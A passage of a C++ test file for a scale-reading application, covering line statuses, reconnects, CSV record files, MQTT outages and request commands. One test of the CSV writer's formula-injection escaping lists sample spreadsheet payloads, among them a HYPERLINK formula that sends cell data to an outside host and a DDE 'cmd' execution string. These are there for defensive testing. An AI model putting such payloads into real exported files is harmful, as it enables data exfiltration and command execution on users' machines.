                    finishingSeen |= keyboard->status == RunState::Output::Status::Finishing;
            EXPECT_TRUE(finishingSeen);
        } else {
            ASSERT_EQ(typed.size(), 1);
            EXPECT_TRUE(typed[0].endsWith(QStringLiteral("<cut>"))) << qPrintable(typed[0]);
            EXPECT_TRUE(QStringLiteral("123456789<cut>").startsWith(typed[0].chopped(5)));
            EXPECT_TRUE(view.important().join(u'\n').contains(QStringLiteral("123456789")))
                << "the cut value is reported";
        }
    }
}

// What became of each line, told once per line and in the order received,
// whatever its kind: typed (or printed), repeated, failed, without a value,
// and the half line left at Stop.
TEST_F(RunTest, everyLine_isSettledOnceInOrder_withWhatBecameOfIt)
{
    using omvara::run::LineStatus;
    for (const bool print : { false, true }) {
        SCOPED_TRACE(print ? "printed" : "typed");
        view.clear();
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setCustomRegEx(QStringLiteral("([a-z0-9.]+)"));
        config.setIgnoreDuplicates(true);
        config.setIgnoreTimeLimit(QString());
        config.setIgnoreDifference(QString());
        auto run = startRun(std::move(config), print, 1ms);
        port->feed("12.5 g\r12.5 g\rabc\r---\r7 g\rhalf");
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == 5; }));
        // Else a Stop right after the fifth line may end reading before "half" was read.
        ASSERT_TRUE(port->waitUntilDrained(5s));
        run->stop();
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == 6; }));
        const LineStatus delivered = print ? LineStatus::Printed : LineStatus::Typed;
        const std::vector<LineStatus> expected = { delivered, LineStatus::Duplicate, LineStatus::Error,
            LineStatus::NoValue, delivered, LineStatus::Unsent };
        for (size_t i = 0; i < expected.size(); ++i) {
            SCOPED_TRACE(i);
            EXPECT_EQ(view.settled[i].status, expected[i]);
            EXPECT_EQ(view.settled[i].seq, qint64(i + 1));
        }
        EXPECT_EQ(view.settled[1].value, QStringLiteral("12.5"))
            << "the repeat keeps its value in the record";
        EXPECT_EQ(view.settled[2].raw, QStringLiteral("abc\r"));
        EXPECT_FALSE(view.settled[2].note.isEmpty());
        EXPECT_EQ(view.settled[5].raw, QStringLiteral("half"));
    }
}

// With "reconnect" on, the device going away does not end the run: the half
// line it was sending is reported as unsent and never typed, the run waits
// (WaitingForDevice, with the reason), and once the device is back it reads
// on with the line count carried on, every later value typed once. Stop
// while it waits ends the run at once.
TEST_F(RunTest, reconnect_deviceGoneAndBack_readsOnWithoutLossOrRepeat_stopWhileWaitingEndsAtOnce)
{
    for (const bool stopWhileWaiting : { false, true }) {
        SCOPED_TRACE(stopWhileWaiting ? "stopped while waiting" : "device back");
        view.clear();
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setReconnect(true);
        auto run = startRun(std::move(config));
        port->feed(run_records::records(1, 3) + "4.5");
        ASSERT_TRUE(runUntil([&] { return view.lines.size() == 3 && port->pendingBytes() == 0; }));
        port->unplug();
        // The phase turns as the engine begins to wait; the report and the close follow on its thread.
        ASSERT_TRUE(runUntil([&] {
            return run->state().phase == RunState::Phase::WaitingForDevice && !port->isOpen()
                && view.important().join(u'\n').contains(QStringLiteral("not sent: 4.5"));
        })) << qPrintable(view.important().join(u'\n'));
        EXPECT_FALSE(run->state().reason.isEmpty());

        if (stopWhileWaiting) {
            QElapsedTimer timer;
            timer.start();
            run->stop();
            ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
            EXPECT_LT(timer.elapsed(), 500);
            EXPECT_EQ(run->state().end, RunState::End::Stopped);
            port->replug();
            continue;
        }
        port->replug();
        ASSERT_TRUE(
            runUntil([&] { return run->state().phase == RunState::Phase::Running && port->isOpen(); }));
        port->feed(run_records::records(5, 7));
        ASSERT_TRUE(runUntil([&] { return view.lines.size() == 6; }));
        EXPECT_EQ(view.lines.back().getCount(), 6);
        ASSERT_TRUE(
            runUntil([&] { return typedTexts(keys->events(), run->keybot()->keyMap()).size() >= 6; }));
        run->stop();
        ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
        run->waitForOutputs();
        EXPECT_EQ(typedTexts(keys->events(), run->keybot()->keyMap()),
            (QStringList { "1", "2", "3", "5", "6", "7" }));
        EXPECT_EQ(run->state().end, RunState::End::Stopped);
        // Good news is told as an ordinary entry, not in the style of the loss.
        EXPECT_FALSE(view.events().filter(QStringLiteral("is back")).isEmpty())
            << qPrintable(view.events().join(u'\n'));
        EXPECT_TRUE(view.important().filter(QStringLiteral("is back")).isEmpty());
    }
}

namespace {

// The rows of an RFC 4180 text: fields separated by commas, rows by CRLF,
// quoted fields with doubled quotes and line breaks inside.
QList<QStringList> parseCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    bool wasQuoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"' && field.isEmpty() && !wasQuoted) {
            quoted = wasQuoted = true;
        } else if (c == u',') {
            row.append(field);
            field.clear();
            wasQuoted = false;
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row.append(field);
            rows.append(row);
            row.clear();
            field.clear();
            wasQuoted = false;
            ++i;
        } else {
            field += c;
        }
    }
    if (!field.isEmpty() || !row.isEmpty())
        rows.append(row << field + QStringLiteral("<no line end>"));
    return rows;
}

QByteArray fileBytes(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

const QStringList CsvHeader
    = { "time", "port", "instrument", "raw", "value", "status", "typed", "connection" };

} // namespace

// Every line of a run gets its row in the record file, in order, with what
// became of it: read back with a CSV parser, commas, quotes and control
// characters of a line come back whole. A second run adds its rows to the
// same file, without a second header; its stamps are in the "typed" column
// only. A file written before that column keeps its columns.
TEST_F(RunTest, everyLine_getsARowInTheRecordFile_readBackWithACsvParser)
{
    QTemporaryDir dir;
    const QString pattern = dir.filePath(QStringLiteral("scale-{date}.csv"));
    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setCustomRegEx(QStringLiteral("([a-z0-9.]+)"));
    config.setIgnoreDuplicates(true);
    config.setIgnoreTimeLimit(QString());
    config.setIgnoreDifference(QString());
    config.setRecordFile(pattern);
    auto run = startRun(config.copyConfig(), false, 1ms);
    port->feed("12.5 g\r12.5 g\rabc\r---\r7, \"x\"\t g\r"
        + QByteArray(omvara::reception::WeightWorker::MaxLineLength, 'x') + "\rhalf");
    ASSERT_TRUE(runUntil([&] { return view.settled.size() == 6; }));
    ASSERT_TRUE(port->waitUntilDrained(5s));
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended() && view.settled.size() == 7; }));
    run->waitForOutputs();
    run.reset();

    Config stamped = config.copyConfig();
    stamped.setStampAfter(QStringLiteral(" #{seq}"));
    auto second = startRun(stamped.copyConfig(), true);
    port->feed("3 g\r");
    ASSERT_TRUE(runUntil([&] { return printedLines().size() == 1; }));
    second->stop();
    ASSERT_TRUE(runUntil([&] { return second->state().ended(); }));
    second->waitForOutputs();
    EXPECT_EQ(second->state().output(OutputKind::Record)->status, RunState::Output::Status::Working);
    second.reset();

    const QString file = omvara::run::RecordFileOutput::pathFor(pattern, QDateTime::currentDateTime());
    const QList<QStringList> rows = parseCsv(fileBytes(file));
    struct Row
    {
        QString raw;
        QString value;
        QString status;
        QString typed;
    };
    const Row expected[] = {
        { "12.5 g<13>", "12.5", "typed", "12.5" },
        { "12.5 g<13>", "12.5", "duplicate", "" },
        { "abc<13>", "", "error", "" },
        { "'---<13>", "", "no value", "" }, // a spreadsheet would take it for a formula
        { "7, \"x\"<9> g<13>", "7", "typed", "7" },
        { QString(omvara::reception::WeightWorker::MaxLineLength, u'x'), "", "overflow", "" },
        { "half", "", "unsent", "" },
        { "3 g<13>", "3", "printed", "3 #1" },
    };
    ASSERT_EQ(rows.size(), qsizetype(std::size(expected)) + 1)
        << qPrintable(QString::fromUtf8(fileBytes(file).left(2000)));
    EXPECT_EQ(rows[0], CsvHeader);
    const QRegularExpression iso(
        QStringLiteral("^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}[+-]\\d\\d:\\d\\d$"));
    for (qsizetype i = 0; i < qsizetype(std::size(expected)); ++i) {
        SCOPED_TRACE(i);
        const QStringList &row = rows[i + 1];
        ASSERT_EQ(row.size(), 8) << qPrintable(row.join(u'|').left(200));
        EXPECT_TRUE(iso.match(row[0]).hasMatch()) << qPrintable(row[0]);
        EXPECT_EQ(row[1], QStringLiteral("COM5"));
        EXPECT_EQ(row[2], QStringLiteral("GENERIC"));
        EXPECT_EQ(row[3], expected[i].raw);
        EXPECT_EQ(row[4], expected[i].value);
        EXPECT_EQ(row[5], expected[i].status);
        EXPECT_EQ(row[6], expected[i].typed);
        EXPECT_EQ(row[7], QStringLiteral("1")) << "the first connection's name";
    }

    // Files with the headers of before: rows appended to them keep their columns.
    for (const auto &[header, columns] : { std::pair { omvara::run::RecordFileOutput::HeaderWithoutTyped, 6 },
             std::pair { omvara::run::RecordFileOutput::HeaderWithoutConnection, 7 } }) {
        SCOPED_TRACE(columns);
        const QString oldPattern = dir.filePath(QStringLiteral("old%1.csv").arg(columns));
        QByteArray oldRow = "2026-01-05T08:00:00.000+01:00,COM5,GENERIC,1 g<13>,1,typed";
        oldRow += columns == 7 ? ",1\r\n" : "\r\n";
        {
            QFile old(oldPattern);
            ASSERT_TRUE(old.open(QIODevice::WriteOnly));
            old.write(header + oldRow);
        }
        stamped.setRecordFile(oldPattern);
        const qsizetype before = printedLines().size();
        auto third = startRun(stamped.copyConfig(), true);
        port->feed("4 g\r");
        ASSERT_TRUE(runUntil([&] { return printedLines().size() == before + 1; }));
        third->stop();
        ASSERT_TRUE(runUntil([&] { return third->state().ended(); }));
        third->waitForOutputs();
        third.reset();
        const QList<QStringList> oldRows = parseCsv(fileBytes(oldPattern));
        ASSERT_EQ(oldRows.size(), 3) << fileBytes(oldPattern).constData();
        EXPECT_EQ(oldRows[0], CsvHeader.mid(0, columns));
        EXPECT_EQ(oldRows[2].size(), columns);
        EXPECT_EQ(oldRows[2].mid(3, 3), (QStringList { "4 g<13>", "4", "printed" }));
    }
}

// The file a row goes to: "{date}" is the date of the row's own time (a row
// after midnight goes to the next day's file), "{user}" the login name, and
// a relative path is taken from the home folder.
TEST(RecordFile, pathOfARow_dateOfItsOwnTime_userAndHome)
{
    const QByteArray user = qgetenv("USER");
    qputenv("USER", "lab7");
    const QDateTime beforeMidnight(QDate(2026, 12, 31), QTime(23, 59, 59, 999));
    const QDateTime afterMidnight = beforeMidnight.addMSecs(1);
    const QString home = QDir::homePath();
    struct Case
    {
        const char *pattern;
        QDateTime time;
        QString path;
    };
    const Case cases[] = {
        { "/data/{user}/scale-{date}.csv", beforeMidnight, "/data/lab7/scale-2026-12-31.csv" },
        { "/data/{user}/scale-{date}.csv", afterMidnight, "/data/lab7/scale-2027-01-01.csv" },
        { "records.csv", afterMidnight, home + "/records.csv" },
        { "lab/{date}/{user}.csv", beforeMidnight, home + "/lab/2026-12-31/lab7.csv" },
        { "~/records/{date}.csv", afterMidnight, home + "/records/2027-01-01.csv" },
    };
    for (const Case &c : cases)
        EXPECT_EQ(omvara::run::RecordFileOutput::pathFor(QString::fromUtf8(c.pattern), c.time), c.path)
            << c.pattern;
    qputenv("USER", user);
}

namespace {

bool haveBrokerPrograms()
{
    return !QStandardPaths::findExecutable(QStringLiteral("mosquitto")).isEmpty()
        && !QStandardPaths::findExecutable(QStringLiteral("mosquitto_sub")).isEmpty();
}

int count(const QStringList &entries, const QString &part)
{
    int n = 0;
    for (const QString &e : entries)
        n += e.contains(part) ? 1 : 0;
    return n;
}

bool outputWas(const std::vector<RunState> &states, OutputKind kind, RunState::Output::Status status)
{
    for (const RunState &s : states)
        if (const RunState::Output *o = s.output(kind); o && o->status == status)
            return true;
    return false;
}

const QString cannotReach = QStringLiteral("cannot be reached");
const QString connectedAgain = QStringLiteral("again; the waiting values follow");

} // namespace

// The network path to the broker is cut during a run (a relay drops every
// connection and refuses new ones for a while) and mended: every value still
// reaches the subscriber, once after repeats are dropped and in order of seq,
// which is the {seq} of the stamp beside it.
// The loss and the return are each told once, and the output's state shows them.
TEST_F(RunTest, brokerPathCutAndMended_everyValueArrivesInOrder_lossToldOnce)
{
    ASSERT_TRUE(haveBrokerPrograms()) << "mosquitto and mosquitto-clients are needed (scripts/lib/deps.sh)";
    QTemporaryDir dir;
    const int brokerPort = broker_test::freePort();
    broker_test::MosquittoBroker broker(dir.path(), QStringLiteral("listener %1 127.0.0.1").arg(brokerPort));
    ASSERT_TRUE(broker.start(brokerPort)) << qPrintable(broker.log());
    broker_test::Subscriber subscriber(brokerPort, QStringLiteral("lab/scale1"));
    ASSERT_TRUE(subscriber.waitUntilSubscribed());
    broker_test::TcpRelay relay(brokerPort);

    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setMqttUrl(QStringLiteral("mqtt://127.0.0.1:%1/lab/scale1").arg(relay.port()));
    config.setStampAfter(QStringLiteral(" #{seq}"));
    auto run = startRun(std::move(config), true);
    port->feed(run_records::records(1, 100));
    ASSERT_TRUE(runUntil([&] { return subscriber.seqsOnce().size() >= 20; }));
    relay.cut(); // values may be on their way right now
    port->feed(run_records::records(101, 200));
    ASSERT_TRUE(runUntil([&] { return count(view.important(), cannotReach) > 0; }));
    QElapsedTimer cut;
    cut.start();
    ASSERT_TRUE(runUntil([&] {
        subscriber.collect();
        return cut.elapsed() > 2000;
    }));
    relay.mend();
    port->feed(run_records::records(201, 300));
    ASSERT_TRUE(runUntil([&] { return subscriber.seqsOnce().size() >= 300; }, 30s))
        << subscriber.seqsOnce().size() << " of 300";

    EXPECT_EQ(subscriber.seqsOnce(), broker_test::oneTo(300));
    EXPECT_EQ(broker_test::checkMessages(subscriber.messages(), run_records::numbers(1, 300),
                  QStringLiteral("COM5"), QStringLiteral(" #{seq}")),
        QString());
    EXPECT_EQ(count(view.important(), cannotReach), 1) << qPrintable(view.important().join(u'\n'));
    EXPECT_EQ(count(view.important(), connectedAgain), 1) << qPrintable(view.important().join(u'\n'));
    EXPECT_TRUE(outputWas(view.states, OutputKind::Broker, RunState::Output::Status::Failed));
    EXPECT_EQ(run->state().output(OutputKind::Broker)->status, RunState::Output::Status::Working);
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    run->waitForOutputs();
}

// The broker is not running when the run starts and comes up later: the
// values received meanwhile wait and arrive, in order. (The subscriber's
// session outlives the broker's restart, so nothing published at once after
// the broker is back can pass it by.)
TEST_F(RunTest, brokerDownAtStart_valuesWaitAndArriveWhenItComesUp)
{
    ASSERT_TRUE(haveBrokerPrograms()) << "mosquitto and mosquitto-clients are needed (scripts/lib/deps.sh)";
    QTemporaryDir dir;
    const int brokerPort = broker_test::freePort();
    broker_test::MosquittoBroker broker(dir.path(),
        QStringLiteral("listener %1 127.0.0.1\npersistence true\npersistence_location %2/\n")
            .arg(brokerPort)
            .arg(dir.path()));
    ASSERT_TRUE(broker.start(brokerPort)) << qPrintable(broker.log());
    broker_test::Subscriber subscriber(
        brokerPort, QStringLiteral("lab/scale2"), QStringLiteral("omvara-test-subscriber"));
    ASSERT_TRUE(subscriber.waitUntilSubscribed());
    broker.stop();

    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setMqttUrl(QStringLiteral("mqtt://127.0.0.1:%1/lab/scale2").arg(brokerPort));
    auto run = startRun(std::move(config), true);
    port->feed(run_records::records(1, 50));
    ASSERT_TRUE(runUntil([&] { return printedLines().size() == 50; }));
    ASSERT_TRUE(runUntil([&] {
        const RunState::Output *broker = run->state().output(OutputKind::Broker);
        return broker && broker->status == RunState::Output::Status::Failed;
    }));
    EXPECT_EQ(count(view.important(), cannotReach), 1) << qPrintable(view.important().join(u'\n'));

    ASSERT_TRUE(broker.start(brokerPort)) << qPrintable(broker.log());
    port->feed(run_records::records(51, 60));
    ASSERT_TRUE(runUntil([&] { return subscriber.seqsOnce().size() >= 60; }, 30s))
        << subscriber.seqsOnce().size();
    EXPECT_EQ(subscriber.seqsOnce(), broker_test::oneTo(60));
    EXPECT_EQ(broker_test::checkMessages(
                  subscriber.messages(), run_records::numbers(1, 60), QStringLiteral("COM5")),
        QString());
    EXPECT_EQ(count(view.important(), cannotReach), 1) << qPrintable(view.important().join(u'\n'));
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    run->waitForOutputs();
}

// The settled-readings filter: a value is handed on once the same value
// arrived N times in a row, once per run of equal values; it comes before
// duplicate suppression; lines without a value and failed lines neither
// count nor break a run; held readings are settled as held, with their value.
TEST_F(RunTest, settledReadings_handOnOncePerRunOfEqualValues_beforeDuplicateSuppression)
{
    using omvara::run::LineStatus;
    struct Case
    {
        const char *name;
        int stable;
        bool ignoreDuplicates;
        QByteArray sent;
        QStringList printed;
        int held;
    };
    const Case cases[] = {
        { "every value with 1", 1, false, "7\r7\r8\r", { "7", "7", "8" }, 0 },
        { "drifting readings never settle", 3, false, "12.1\r12.2\r12.3\r12.4\r12.5\r", {}, 5 },
        { "a reading that settles, once", 3, false, "12.1\r12.5\r12.5\r12.5\r12.5\r12.5\r", { "12.5" }, 5 },
        { "back to the value after another one", 2, false, "5\r5\r6\r5\r5\r", { "5", "5" }, 3 },
        { "then duplicate suppression takes the repeat", 2, true, "5\r5\r6\r5\r5\r", { "5" }, 3 },
        { "a settled change is no duplicate", 2, true, "5\r5\r6\r6\r5\r5\r", { "5", "6", "5" }, 3 },
        { "no value and failed lines neither count nor break", 3, false, "5\r---\r5\rabc\r5\r5\r", { "5" },
            3 },
        { "equal as texts only", 2, false, "12.30\r12.3\r12.30\r", {}, 3 },
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        view.clear();
        std::fclose(printed);
        printed = std::tmpfile();
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setCustomRegEx(QStringLiteral("([a-z0-9.]+)")); // "abc" fails in number formatting
        config.setStableReadings(c.stable);
        config.setIgnoreDuplicates(c.ignoreDuplicates);
        config.setIgnoreTimeLimit(QString());
        config.setIgnoreDifference(QString());
        auto run = startRun(std::move(config), true);
        port->feed(c.sent);
        const auto lines = size_t(c.sent.count('\r'));
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == lines; }));
        EXPECT_EQ(printedLines(), c.printed);
        int held = 0;
        for (const auto &line : view.settled) {
            if (line.status == LineStatus::Held) {
                ++held;
                EXPECT_FALSE(line.value.isEmpty());
            }
        }
        EXPECT_EQ(held, c.held);
        run->stop();
        ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    }
}

// Requests: each one writes the command once, also while earlier ones have
// no answer; the instrument's silence is reported once per silent stretch;
// a write the port refuses is reported and the run goes on; while the run
// waits for a lost device requests are held back, not reported as failed;
// without any command a request writes nothing and says so once.
TEST_F(RunTest, requests_eachWritesTheCommand_silenceToldOncePerStretch_failedWriteGoesOn)
{
    using omvara::run::RequestOrigin;
    const auto silences = [&] { return view.important().filter(QStringLiteral("did not answer")).size(); };
    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setRequestCommand(QStringLiteral("SI\\r\\n"));
    auto run = startRun(std::move(config), true);
    EXPECT_EQ(run->requestCommand(), QByteArray("SI\r\n"));
    port->answerRequests("SI\r\n", "  1.5 g\r");
    run->request(RequestOrigin::Window);
    run->request(RequestOrigin::Signal);
    ASSERT_TRUE(runUntil([&] { return view.lines.size() == 2; }));
    EXPECT_EQ(port->written(), QByteArray("SI\r\nSI\r\n"));

    // The instrument falls silent: one report for all unanswered requests.
    port->answerRequests({}, {});
    run->request(RequestOrigin::Hotkey);
    ASSERT_TRUE(runUntil([&] { return silences() == 1; }, 5s));
    run->request(RequestOrigin::Interval);
    runUntil([] { return false; }, 2500ms);
    EXPECT_EQ(silences(), 1);
    // It answers again; the next silence is a new stretch.
    port->feed("  2.5 g\r");
    ASSERT_TRUE(runUntil([&] { return view.lines.size() == 3; }));
    runUntil([] { return false; }, 300ms);
    run->request(RequestOrigin::Window);
    ASSERT_TRUE(runUntil([&] { return silences() == 2; }, 5s));

    // A refused write.
    port->forceResult(portlink::testing::SimCall::PutData, -1, 1);
    run->request(RequestOrigin::Window);
    ASSERT_TRUE(
        runUntil([&] { return !view.important().filter(QStringLiteral("could not be sent")).isEmpty(); }));
    EXPECT_EQ(run->state().phase, RunState::Phase::Running);
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    EXPECT_EQ(printedLines(), (QStringList { "1.5", "1.5", "2.5" }));

    // Held back, not failed, while the run waits for a lost device.
    view.clear();
    Config waiting = Instrument::GENERIC.getDefaultConfig();
    waiting.setRequestCommand(QStringLiteral("P\\r"));
    waiting.setReconnect(true);
    auto reconnecting = startRun(std::move(waiting), true);
    port->unplug();
    ASSERT_TRUE(runUntil([&] { return reconnecting->state().phase == RunState::Phase::WaitingForDevice; }));
    const QByteArray sentBefore = port->written();
    reconnecting->request(RequestOrigin::Window);
    runUntil([] { return false; }, 2500ms);
    EXPECT_EQ(port->written(), sentBefore);
    EXPECT_TRUE(view.important().filter(QStringLiteral("could not be sent")).isEmpty());
    EXPECT_TRUE(view.important().filter(QStringLiteral("did not answer")).isEmpty());
    port->replug();
    ASSERT_TRUE(runUntil([&] { return reconnecting->state().phase == RunState::Phase::Running; }));
    reconnecting->request(RequestOrigin::Window);
    ASSERT_TRUE(runUntil([&] { return port->written() == sentBefore + "P\r"; }));
    reconnecting->stop();
    ASSERT_TRUE(runUntil([&] { return reconnecting->state().ended(); }));

    // No command at all (a generic instrument, no setting).
    view.clear();
    auto plain = startRun(Instrument::GENERIC.getDefaultConfig(), true);
    const QByteArray before = port->written();
    plain->request(RequestOrigin::Window);
    plain->request(RequestOrigin::Window);
    runUntil([] { return false; }, 200ms);
    EXPECT_EQ(port->written(), before);
    EXPECT_EQ(view.important().filter(QStringLiteral("no request command")).size(), 1)
        << qPrintable(view.important().join(u'\n'));
    plain->stop();
    ASSERT_TRUE(runUntil([&] { return plain->state().ended(); }));

    // A long command is shown by its beginning and length in each request's entry.
    view.clear();
    Config longCommand = Instrument::GENERIC.getDefaultConfig();
    longCommand.setRequestCommand(QString(2000, u'Q') + QStringLiteral("\\r"));
    auto talkative = startRun(std::move(longCommand), true);
    const qsizetype writtenBefore = port->written().size();
    for (int i = 0; i < 3; ++i)
        talkative->request(RequestOrigin::Window);
    ASSERT_TRUE(runUntil([&] { return port->written().size() >= writtenBefore + 3 * 2001; }));
    const QStringList requested = view.events().filter(QStringLiteral("Reading requested"));
    ASSERT_EQ(requested.size(), 3);
    for (const QString &entry : requested) {
        EXPECT_LT(entry.size(), 120) << qPrintable(entry.left(200));
        EXPECT_TRUE(entry.contains(QStringLiteral("(2001 bytes)"))) << qPrintable(entry.left(200));
    }
    talkative->stop();
    ASSERT_TRUE(runUntil([&] { return talkative->state().ended(); }));
}

// A broker that takes the connection and never answers it is told as such
// (libmosquitto's own word for it names nothing).
TEST_F(RunTest, brokerThatNeverAnswers_isToldAsSuch)
{
    const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a {};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof a;
    ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr *>(&a), sizeof a), 0);
    ASSERT_EQ(::listen(listener, 4), 0); // connections wait in its queue, unanswered
    ::getsockname(listener, reinterpret_cast<sockaddr *>(&a), &length);
    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setMqttUrl(QStringLiteral("mqtt://127.0.0.1:%1/lab/scale3").arg(ntohs(a.sin_port)));
    auto run = startRun(std::move(config), true);
    ASSERT_TRUE(runUntil([&] { return count(view.important(), cannotReach) > 0; }, 20s));
    EXPECT_EQ(count(view.important(), QStringLiteral("the broker did not answer")), 1)
        << qPrintable(view.important().join(u'\n'));
    EXPECT_EQ(count(view.important(), QStringLiteral("Unknown error")), 0);
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    ::close(listener);
}

// While the program's own window has the focus a value is not typed, except
// the answer to a request from the window's Request control: it waits for
// the focus to leave (at most WindowRequestFocusWait) and is then typed.
TEST_F(RunTest, ownFocus_valueNotTyped_butTheAnswerToTheWindowsRequestWaitsForTheFocusToLeave)
{
    using omvara::run::LineStatus;
    using omvara::run::RequestOrigin;
    std::atomic<bool> focused = true;
    ownFocus = [&] { return focused.load(); };
    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setRequestCommand(QStringLiteral("P\\r"));
    auto run = startRun(std::move(config));
    port->feed("  1.5 g\r");
    ASSERT_TRUE(runUntil([&] { return view.settled.size() == 1; }));
    EXPECT_EQ(view.settled[0].status, LineStatus::NotTyped);

    port->answerRequests("P\r", "  2.5 g\r");
    run->request(RequestOrigin::Window);
    ASSERT_TRUE(runUntil([&] { return !view.events().filter(QStringLiteral("waits up to 10 s")).isEmpty(); }))
        << qPrintable(view.events().join(u'\n'));
    runUntil([] { return false; }, 300ms);
    EXPECT_EQ(view.settled.size(), 1u) << "the answer waits";
    focused = false; // the user switches to the application
    ASSERT_TRUE(runUntil([&] { return view.settled.size() == 2; }));
    EXPECT_EQ(view.settled[1].status, LineStatus::Typed);
    EXPECT_EQ(view.settled[1].value, QStringLiteral("2.5"));

    // Requests from elsewhere (here the hotkey's) do not wait.
    focused = true;
    run->request(RequestOrigin::Hotkey);
    ASSERT_TRUE(runUntil([&] { return view.settled.size() == 3; }));
    EXPECT_EQ(view.settled[2].status, LineStatus::NotTyped);
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
}

namespace {

// The values of the record file at `path` (its value column, without the header).
QStringList recordedValues(const QString &path)
{
    QStringList values;
    const QList<QStringList> rows = parseCsv(fileBytes(path));
    for (qsizetype i = 1; i < rows.size(); ++i)
        values.append(rows[i].value(4));
    return values;
}

} // namespace

// What a spreadsheet opening the record would run is written as text: a cell
// that begins with "=", "+", "-", "@", a tab or a carriage return gets a
// leading "'", unless it is a plain number, which stays exactly as it is.
// Every text cell of a row (received text, value, port, instrument) is treated
// alike.
TEST(RecordFile, cellsASpreadsheetWouldRun_getAQuote_plainNumbersStayExactly)
{
    struct Case
    {
        const char *cell;
        const char *written;
    };
    const Case cases[] = {
        { "=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")",
            "'=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")" },
        { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
        { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
        { "-2+3", "'-2+3" },
        { "\t=1", "'\t=1" },
        { "\r=1", "'\r=1" },
        { "=", "'=" },
        { "-", "'-" },
        { "+.", "'+." },
        { "-1.2.3", "'-1.2.3" },
        { "-1,2.3", "'-1,2.3" },
        { "+    12.345 g  <13><10>", "'+    12.345 g  <13><10>" },
        { "-12.5", "-12.5" },
        { "+3", "+3" },
        { "-0,50", "-0,50" },
        { "-.5", "-.5" },
        { "+12.", "+12." },
        { "12.5", "12.5" },
        { "a=b", "a=b" },
        { "'=1", "'=1" },
        { "", "" },
    };
    for (const Case &c : cases) {
        const QString cell = QString::fromUtf8(c.cell);
        EXPECT_EQ(omvara::run::RecordFileOutput::cell(cell), QString::fromUtf8(c.written)) << c.cell;
        // In a whole row, read back by a CSV parser: in the raw, the value and the typed column.
        omvara::run::RunLine line { 1, 1, QDateTime::currentDateTime(), cell, cell,
            omvara::run::LineStatus::Printed, {} };
        line.typed = cell;
        const QList<QStringList> rows = parseCsv(
            omvara::run::RecordFileOutput::row(line, QStringLiteral("@port"), QStringLiteral("GENERIC")));
        ASSERT_EQ(rows.size(), 1) << c.cell;
        ASSERT_EQ(rows[0].size(), 8) << c.cell;
        EXPECT_EQ(rows[0][1], QStringLiteral("'@port"));
        EXPECT_EQ(rows[0][4], QString::fromUtf8(c.written)) << c.cell;
        EXPECT_EQ(rows[0][6], QString::fromUtf8(c.written)) << c.cell;
    }
}

// The record file, then its whole folder, is removed during a run. Each time
// the output notices before its next write, says so once, and writes to the
// path again as soon as it can: no row goes into a removed file unseen, and
// every row after the removal is in the file at the path, in order.
TEST_F(RunTest, recordFileOrFolderRemovedDuringTheRun_toldOnce_rowsWrittenToThePathAgain)
{
    QTemporaryDir dir;
    const QString folder = dir.filePath(QStringLiteral("records"));
    ASSERT_TRUE(QDir().mkpath(folder));
    const QString file = folder + QStringLiteral("/scale.csv");
    Config config = Instrument::GENERIC.getDefaultConfig();
    config.setRecordFile(file);
    auto run = startRun(config.copyConfig(), true);
    const QString gone = QStringLiteral("was removed, moved or replaced during the run");
    const QString failed = QStringLiteral("Cannot write the record file");

    port->feed(run_records::records(1, 30));
    ASSERT_TRUE(runUntil([&] { return recordedValues(file) == run_records::numbers(1, 30); }))
        << qPrintable(recordedValues(file).join(u' '));
    ASSERT_TRUE(QFile::remove(file));
    port->feed(run_records::records(31, 60));
    ASSERT_TRUE(runUntil([&] { return recordedValues(file) == run_records::numbers(31, 60); }))
        << qPrintable(recordedValues(file).join(u' '));
    EXPECT_EQ(count(view.important(), gone), 1) << qPrintable(view.important().join(u'\n'));
    EXPECT_EQ(parseCsv(fileBytes(file)).value(0), CsvHeader) << "a new file begins with its header";

    ASSERT_TRUE(QDir(folder).removeRecursively());
    port->feed(run_records::records(61, 90));
    ASSERT_TRUE(runUntil([&] { return count(view.important(), failed) == 1; }))
        << qPrintable(view.important().join(u'\n'));
    ASSERT_TRUE(QDir().mkpath(folder));
